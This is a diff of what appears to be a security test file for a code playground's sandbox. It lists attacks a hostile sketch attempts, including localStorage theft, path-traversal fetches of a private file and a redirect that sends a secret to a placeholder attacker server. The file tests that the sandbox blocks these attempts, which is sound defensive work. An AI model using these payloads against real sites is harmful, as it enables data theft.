@@ -1,7 +1,7 @@
-// The attacks of a hostile sketch, as functions that run in its frame: each returns what it obtained, or throws. `site` is the
-// address of the first page of the site, `evil` that of an attacker's server.
+// The attacks of a hostile sketch, as functions that run in its frame. Each returns what it obtained, or throws. `site` is the
+// address of the site's start page, `evil` that of an attacker's server.
 
-/** Maps names to attacks that try to read data. None may return anything. */
+/** Maps names to attacks on the page and its data. None may return anything. */
 export const attacks = {
   'reads localStorage': () => localStorage.getItem('secret'),
   'writes localStorage': () => localStorage.setItem('secret', 'stolen'),
@@ -67,12 +67,12 @@ export const attacks = {
   'fetches a page beside the site': async ({ site }) =>
     (await fetch(new URL('/private.txt', site))).text(),
   'fetches a page beside the site by dots': async ({ site }) => {
-    for (const way of [
+    for (const path of [
       '..%2f..%2f..%2fprivate.txt',
       '../../../../private.txt',
       '..\\..\\..\\..\\private.txt',
     ]) {
-      const response = await fetch(`${site}playground/files/${way}`).catch(() => undefined)
+      const response = await fetch(`${site}playground/files/${path}`).catch(() => undefined)
       if (response?.ok) return response.text()
     }
   },
@@ -143,7 +143,7 @@ export const leave = ({ evil }) => {
   location = `${evil}leave?secret`
 }
 
-/** The source of a sketch that runs all attacks once it is visible; a sketch that fails earlier is removed. */
+/** Returns a sketch that runs all attacks in frame 30, when it is visible: the playground removes a sketch that fails before that. */
 export const hostileSketch = (addresses) => `
 const attacks = {${Object.entries({ ...attacks, ...leaks })
   .map(([name, attack]) => `${JSON.stringify(name)}: ${attack}`)
